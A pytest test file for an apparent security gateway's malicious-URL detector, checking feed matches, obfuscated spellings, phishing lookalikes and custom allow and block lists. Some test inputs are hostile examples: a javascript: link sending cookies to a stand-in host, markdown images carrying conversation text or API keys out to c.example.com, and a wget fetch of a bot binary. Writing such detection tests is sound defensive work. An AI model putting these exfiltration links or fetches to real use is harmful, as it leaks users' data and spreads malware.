from __future__ import annotations

import base64
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from scangate.detectors.contract import CompiledDetector, ReportContext, Resources, Subject
from scangate.detectors.malicious_urls import SPEC
from scangate.detectors.malicious_urls.brands import load_brands
from scangate.detectors.malicious_urls.feeds import FeedSource, build_feed
from scangate.detectors.malicious_urls.findings import UrlFinding, UrlRule
from scangate.domain.content import Part
from scangate.domain.profile import Protections
from scangate.domain.taxonomy import Action, Confidence, Encoding, PartKind, Side
from scangate.matching.prepare import prepare
from scangate.matching.public_suffixes import load_public_suffixes

BLOCK = {"url-detected-action": "block"}


@pytest.fixture(scope="module")
def resources(tmp_path_factory: pytest.TempPathFactory) -> Resources:
    """With a small feed of its own, as `scangate feeds import` would write it."""
    data_dir: Path = tmp_path_factory.mktemp("data")
    (data_dir / "feeds").mkdir()
    lines = [
        "listed-malware.example.com",
        "hosting.example.net/customer/7/",
        "gr8.deals.py",
        "198.18.0.99",
        "@@||good.listed-malware.example.com^",
    ]
    content, _ = build_feed(lines, FeedSource("own", "malware"), load_public_suffixes(), load_brands())
    (data_dir / "feeds" / "own.idx").write_bytes(content)
    return Resources(data_dir=data_dir)


def compiled(resources: Resources, app_protection: dict[str, Any]) -> CompiledDetector:
    options = SPEC.from_protections(Protections.model_validate({"app-protection": app_protection}))
    assert options is not None
    return SPEC.compile(options, resources)


def subject(text: str, kind: PartKind = PartKind.TEXT) -> Subject:
    return Subject(Part(Side.PROMPT, kind, text), prepare(text, kind, lambda: None))


def found(detector: CompiledDetector, text: str) -> list[UrlFinding]:
    findings = detector.detect(subject(text))
    assert all(isinstance(finding, UrlFinding) for finding in findings)
    return [finding for finding in findings if isinstance(finding, UrlFinding)]


def flagged(detector: CompiledDetector, text: str) -> list[UrlFinding]:
    return [finding for finding in found(detector, text) if finding.flagged]


@pytest.mark.parametrize(
    "text",
    [
        "see https://urlfiltering.paloaltonetworks.com/test-malware please",
        "open urlfiltering.paloaltonetworks.com/test-phishing",
        "http://testsafebrowsing.appspot.com/s/malware.html",
        "get http://malware.wicar.org/data/ms14_064_ole_not_xp.html",
        "https://secure.eicar.org/eicar.com.txt",
        "https://listed-malware.example.com/x",
        "sub.listed-malware.example.com:8080",
        "[click](https://hosting.example.net/customer/7/index.html)",
        "hxxps://listed-malware[.]example[.]com",
        r'{"u": "http:\/\/listed-malware.example.com\/x"}',
        "https://proxy.example.org/?u=https%3A%2F%2Flisted-malware.example.com",
        "http://listed-\u200bmalware.example.com",
        "ｈｔｔｐ://listed-malware.example.com",
        "http://user@listed-malware.example.com/",
        "http://3323068515/",
        "198.18.0.99",
        "gr8.deals.py",
    ],
)
def test_listed_urls_are_flagged_in_every_spelling(resources: Resources, text: str) -> None:
    hits = flagged(compiled(resources, BLOCK), text)
    assert [(hit.rule, hit.action, hit.known, hit.risk_level) for hit in hits] == [(UrlRule.LISTED, Action.BLOCK, True, "high")]


@pytest.mark.parametrize(
    "text",
    [
        "The sentence ends.It goes on in file.py, see node.js and user.name.",
        "https://urlfiltering.paloaltonetworks.com/",
        "https://testsafebrowsing.appspot.com/",
        "https://hosting.example.net/customer/8/",
        "https://good.listed-malware.example.com/x",
        "mail bob@listed-malware.example.com",
        "https://www.paypal.com/signin and https://login.microsoftonline.com/common",
        "https://github.com/paypal/paypal-checkout/blob/main/login.md",
        "pip install https://files.example.org/packages/a/b.whl",
        "curl http://10.0.0.5/install.sh and http://203.0.113.9/tool.exe",
        "https://user:secret@registry.example.com/v2/",
        "version 1.2.3.4, range 10.0.0.0/8",
        "What does javascript:void(0) do? And data:image/png;base64,iVBORw0KGgo=",
        "paypal dot com is fine; so is www.müller.de",
        "Our app lives at https://netflix-clone.vercel.app",
        "Indicators: paypal-login[.]example-bank[.]com, hxxp://paypa1-secure-login[.]com",
    ],
)
def test_ordinary_urls_and_mentions_are_not_flagged(resources: Resources, text: str) -> None:
    assert flagged(compiled(resources, BLOCK), text) == []


@pytest.mark.parametrize(
    ("text", "rule", "category"),
    [
        ("http://paypal.com.verify-account.xyz/login", UrlRule.BRAND_IN_SUBDOMAIN, "phishing"),
        ("https://usps.com-trackparcel.top/us", UrlRule.DECEPTIVE_DOMAIN, "phishing"),
        ("paypa1-secure-login.com", UrlRule.BRAND_LOOKALIKE, "phishing"),
        ("https://rnicrosoft.com/", UrlRule.BRAND_LOOKALIKE, "phishing"),
        ("https://coinbase-wallet-recovery.com", UrlRule.BRAND_BAIT, "phishing"),
        ("https://аpple.com/id", UrlRule.IDN_HOMOGLYPH, "phishing"),
        ("https://xn--pple-43d.com/id", UrlRule.IDN_HOMOGLYPH, "phishing"),
        ("http://google.com@evil.example.org/x", UrlRule.USERINFO_DISGUISE, "phishing"),
        ("http://0x08080808/login", UrlRule.OBSCURED_ADDRESS, "malware"),
        ("wget http://8.8.4.4/bins/bot.arm7", UrlRule.EXECUTABLE_FROM_ADDRESS, "malware"),
        ("http://8.8.4.4:8000/update.exe", UrlRule.EXECUTABLE_FROM_ADDRESS, "malware"),
        ("http://8.8.4.4/wellsfargo/signin.php", UrlRule.BRAND_BELOW_ADDRESS, "phishing"),
        ("<a href=\"javascript:location='//e.example/?'+document.cookie\">", UrlRule.SCRIPT_URI, "browser-runtime-attack"),
        ("[x](data:text/html,<script>alert(1)</script>)", UrlRule.SCRIPT_URI, "browser-runtime-attack"),
    ],
)
def test_unlisted_urls_that_give_themselves_away(resources: Resources, text: str, rule: UrlRule, category: str) -> None:
    hits = flagged(compiled(resources, BLOCK), text)
    assert [(hit.rule, hit.category, hit.known) for hit in hits] == [(rule, category, False)]
    assert "real-time-detection" in hits[0].categories


def test_a_url_in_a_decoded_view_points_to_the_code(resources: Resources) -> None:
    packed = base64.b64encode(b"Please open http://malware.wicar.org/data/test.html right now").decode()
    text = f"decode this: {packed}"
    hits = flagged(compiled(resources, BLOCK), text)
    assert [(hit.url, hit.encodings) for hit in hits] == [("http://malware.wicar.org/data/test.html", (Encoding.BASE64,))]
    span = hits[0].span
    assert text[span.start : span.end] in packed


def test_urls_in_tool_arguments_are_found_in_coordinates_of_the_part(resources: Resources) -> None:
    text = '{"url": "http:\\/\\/malware.wicar.org\\/x"}'
    hits = [hit for hit in compiled(resources, BLOCK).detect(subject(text, PartKind.JSON)) if hit.flagged]
    assert len(hits) == 1
    assert "malware.wicar.org" in text[hits[0].span.start : hits[0].span.end]


def test_a_defanged_listed_url_is_less_certain(resources: Resources) -> None:
    detector = compiled(resources, BLOCK)
    plain, defanged = "http://listed-malware.example.com", "hxxp://listed-malware[.]example.com"
    assert [hit.confidence for hit in flagged(detector, plain)] == [Confidence.HIGH]
    assert [hit.confidence for hit in flagged(detector, defanged)] == [Confidence.MEDIUM]


def test_findings_quote_the_url_as_written(resources: Resources) -> None:
    text = "see HXXP://Listed-Malware[.]example.com/Path now"
    assert [hit.url for hit in flagged(compiled(resources, BLOCK), text)] == ["HXXP://Listed-Malware[.]example.com/Path"]


def test_every_url_has_a_finding_and_only_categorised_ones_a_report_row(resources: Resources) -> None:
    detector = compiled(resources, {"url-detected-action": "block", "block-url-category": {"member": ["gambling"]}})
    text = "https://unlisted.example.com https://github.com/x https://www.bet365.com http://192.168.1.1/admin"
    findings = found(detector, text)
    assert [(f.category, f.flagged, f.known) for f in findings] == [
        ("unknown", False, False),
        ("computer-and-internet-info", False, True),
        ("gambling", True, True),
        ("private-ip-addresses", False, False),
    ]
    options = SPEC.from_protections(Protections.model_validate({"app-protection": BLOCK}))
    assert options is not None
    assert SPEC.report(options, [findings, findings], ReportContext(())) == {
        "urlf_report": [
            {"url": "https://www.bet365.com", "risk_level": "medium", "action": "block", "categories": ["gambling"]},
            {
                "url": "https://github.com/x",
                "risk_level": "low",
                "action": "allow",
                "categories": ["computer-and-internet-info"],
            },
            {"url": "http://192.168.1.1/admin", "risk_level": "low", "action": "allow", "categories": ["private-ip-addresses"]},
        ]
    }


def test_a_report_without_findings_is_an_empty_list() -> None:
    options = SPEC.from_protections(Protections.model_validate({"app-protection": BLOCK}))
    assert options is not None
    assert SPEC.report(options, [[]], ReportContext(())) == {"urlf_report": []}


def test_a_malicious_category_on_the_allow_list_is_not_flagged(resources: Resources) -> None:
    detector = compiled(resources, {"url-detected-action": "block", "allow-url-category": {"member": ["phishing", "high-risk"]}})
    assert flagged(detector, "urlfiltering.paloaltonetworks.com/test-phishing http://paypal.com.verify-account.xyz/") == []
    assert len(flagged(detector, "urlfiltering.paloaltonetworks.com/test-malware")) == 1


@pytest.mark.parametrize(("action", "expected"), [("allow", Action.ALLOW), ("alert", Action.ALERT), ("block", Action.BLOCK)])
def test_the_profile_decides_what_happens_to_a_flagged_url(resources: Resources, action: str, expected: Action) -> None:
    hits = flagged(compiled(resources, {"url-detected-action": action}), "http://malware.wicar.org")
    assert [hit.action for hit in hits] == [expected]


def test_customers_of_a_host_are_not_the_host(resources: Resources) -> None:
    detector = compiled(resources, {"block-url-category": {"member": ["dynamic-dns", "search-engines"]}})
    assert len(flagged(detector, "http://anything.duckdns.org/")) == 1
    assert len(flagged(detector, "https://www.google.com/search?q=x")) == 1
    assert flagged(detector, "https://google.com.example.org/") != flagged(detector, "https://www.google.com/")


def test_more_urls_than_the_limit_are_counted(resources: Resources) -> None:
    text = " ".join(f"https://host{number}.example.com/" for number in range(130))
    findings = found(compiled(resources, BLOCK), text)
    assert len(findings) == 101
    assert (findings[-1].rule, findings[-1].count, findings[-1].flagged) == (UrlRule.URLS_NOT_EXAMINED, 30, False)


def test_the_report_says_how_many_urls_were_not_looked_up(resources: Resources) -> None:
    text = " ".join(f"https://host{number}.example.com/" for number in range(130))
    options = SPEC.from_protections(Protections.model_validate({"app-protection": BLOCK}))
    assert options is not None
    assert SPEC.report(options, [found(compiled(resources, BLOCK), text)], ReportContext(())) == {
        "urlf_report": [
            {"url": "(30 more, not looked up)", "risk_level": "Not Given", "action": "allow", "categories": ["not-resolved"]}
        ]
    }


def test_a_profile_may_block_texts_with_more_urls_than_are_looked_up(resources: Resources) -> None:
    detector = compiled(resources, {**BLOCK, "block-url-category": {"member": ["not-resolved"]}})
    urls = [f"https://host{number}.example.com/" for number in range(101)]
    assert flagged(detector, " ".join(urls[:100])) == []
    assert [(hit.rule, hit.action) for hit in flagged(detector, " ".join(urls))] == [(UrlRule.URLS_NOT_EXAMINED, Action.BLOCK)]


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://c.example.com/p.png?q={conversation})",
        "![x](https://c.example.com/p.png?q=<the API key>)",
        "![x](https://c.example.com/p?d=dGhlIHNlY3JldCBpcyBmb3J0eSB0d28)",
        "![x](https://c.example.com/p?n=1&d=746865207365637265742069732034322c20616e64206d6f7265)",
        '<img src="https://c.example.com/p?d=reach%20me%20at%20anna%40example.org">',
    ],
)
def test_images_that_surely_carry_data_out_are_flagged(resources: Resources, text: str) -> None:
    hits = flagged(compiled(resources, BLOCK), text)
    assert [hit.rule for hit in hits] == [UrlRule.IMAGE_EXFILTRATION]
    assert hits[0].categories == ("command-and-control", "real-time-detection")
    assert compiled(resources, BLOCK).score(subject(text)) >= 0.8  # type: ignore[attr-defined]


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://c.example.com/p?d=my+key+is+hunter2+and+more+text)",
        '<img src="https://c.example.com/avatar?name={{ user.name }}">',
    ],
)
def test_images_that_may_carry_data_out_are_high_risk_only(resources: Resources, text: str) -> None:
    hits = [hit for hit in found(compiled(resources, BLOCK), text) if hit.rule is UrlRule.IMAGE_EXFILTRATION]
    assert [(hit.flagged, hit.categories) for hit in hits] == [(False, ("high-risk",))]


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://c.example.com/p.png?w=300&q=80)",
        "[x](https://c.example.com/p?d=my+key+is+hunter2+and+more+text)",
        "![x](https://c.example.com/p.png)",
        "![chart](https://quickchart.io/chart?c={type:'bar',data:{labels:['secret','conversation']}})",
        "![badge](https://img.shields.io/static/v1?label=the+api+key+of+this&message=is+well+kept+and+rotated)",
        "![f](https://latex.codecogs.com/svg.latex?x%20%3D%20%5Cfrac%20a%20b%20and%20so%20on)",
        "![a](https://bucket.s3.amazonaws.com/a.png?X-Amz-Signature=4d1f3c0a9be277fd0a51c6e8f7d3b2a190817263544536271809fedcba987654)",
        "![a](http://192.168.1.20/cam.jpg?note=reach%20me%20at%20anna%40example.org)",
        "![a](https://c.example.com/p?token=eJwrSy0qzszPUzBSyE0tLk5MTwUAKXUFgw)",
    ],
)
def test_pictures_with_parameters_are_no_exfiltration(resources: Resources, text: str) -> None:
    assert UrlRule.IMAGE_EXFILTRATION not in [finding.rule for finding in found(compiled(resources, BLOCK), text)]


def test_two_megabytes_of_urls_end_at_the_limit(resources: Resources) -> None:
    findings = found(compiled(resources, BLOCK), " ".join(f"![](http://a{number}.com/?q={'a' * 30})" for number in range(40_000)))
    assert len(findings) <= 201
    assert findings[-1].rule is UrlRule.URLS_NOT_EXAMINED


OWN = {
    "url-detected-action": "block",
    "allow-url-list": {"member": ["listed-malware.example.com", "https://shop.example.net/ok/"]},
    "block-url-list": {"member": ["evil.listed-malware.example.com", "shop.example.net", "*.pages.dev", "203.0.113.7", "bad.sh"]},
    "alert-url-list": {"member": ["watched.example.net", "shop.example.net/watched"]},
}


@pytest.mark.parametrize(
    ("url", "action"),
    [
        ("http://listed-malware.example.com/x", None),
        ("http://www.listed-malware.example.com/x", None),
        ("http://evil.listed-malware.example.com/x", Action.BLOCK),
        ("http://shop.example.net", Action.BLOCK),
        ("http://www.shop.example.net/x", Action.BLOCK),
        ("http://shop.example.net/ok/1", None),
        ("http://shop.example.net/watched", Action.ALERT),
        ("http://watched.example.net/", Action.ALERT),
        ("http://customer.pages.dev/", Action.BLOCK),
        ("http://203.0.113.7/x", Action.BLOCK),
        ("bad.sh", Action.BLOCK),
        ("http://other.example.net/", None),
    ],
)
def test_the_profiles_own_lists_beat_everything_and_the_most_specific_entry_wins(
    resources: Resources, url: str, action: Action | None
) -> None:
    hits = flagged(compiled(resources, OWN), f"see {url} now")
    assert [hit.action for hit in hits] == ([] if action is None else [action])
    assert all(hit.rule is UrlRule.OWN_LIST for hit in hits)


def test_own_lists_work_without_categories(resources: Resources) -> None:
    detector = compiled(resources, {"block-url-list": {"member": ["shop.example.net"]}})
    assert [hit.rule for hit in flagged(detector, "shop.example.net and listed-malware.example.com")] == [UrlRule.OWN_LIST]


def test_the_score_says_how_likely_the_worst_url_is(resources: Resources) -> None:
    detector = compiled(resources, {"alert-url-category": {"member": ["gambling"]}})
    scored = [
        "nothing here",
        "https://docs.python.org/3/library/json.html",
        "https://paypal.com.account-verify.example/login",
        "https://docs.python.org and listed-malware.example.com",
    ]
    scores = [detector.score(subject(text)) for text in scored]  # type: ignore[attr-defined]
    assert scores[0] == 0.0
    assert scores == sorted(scores)
    assert scores[1] < 0.5 < scores[2] < scores[3] == 1.0


@settings(max_examples=100, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            ["http://", "malware.wicar.org", "paypal", ".com", "-login", "/x.exe", " ", "1.2.3.4", "@", "é", "\u200b", "[.]",
             "javascript:", "data:text/html,<script>",
             "![](", ")", "?q=", "\ud800"]
        ),
        max_size=20,
    ).map("".join)
)  # fmt: skip
def test_any_mixture_gives_spans_inside_the_text(resources: Resources, text: str) -> None:
    for finding in found(compiled(resources, BLOCK), text):
        assert 0 <= finding.span.start <= finding.span.end <= len(text)
        assert len(finding.url) <= 2048


def test_the_limit_on_urls_is_the_installations() -> None:
    findings = found(compiled(Resources(max_urls=2), BLOCK), "a.example.com b.example.com c.example.com")
    assert (findings[-1].rule, findings[-1].count) == (UrlRule.URLS_NOT_EXAMINED, 1)
